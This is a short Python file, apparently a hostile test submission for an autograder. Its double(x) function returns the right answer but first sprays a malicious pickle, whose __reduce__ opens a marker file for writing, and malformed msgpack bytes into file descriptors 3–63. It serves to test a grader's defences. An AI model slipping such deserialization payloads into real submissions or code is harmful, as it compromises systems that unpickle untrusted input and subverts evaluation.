"""A pickle in the place of an answer, and one with an extension of msgpack."""

import os
import pickle


class Bomb:
    def __reduce__(self):
        return (open, ("/course/left-by-attack", "w"))


def double(x):
    for data in (pickle.dumps(Bomb()), b"\xc7\x05\x2aabcde", b"\xd6\xff\0\0\0\0"):
        for fd in range(3, 64):
            try:
                os.write(fd, len(data).to_bytes(4, "big") + data)
            except OSError:
                continue
    return 2 * x
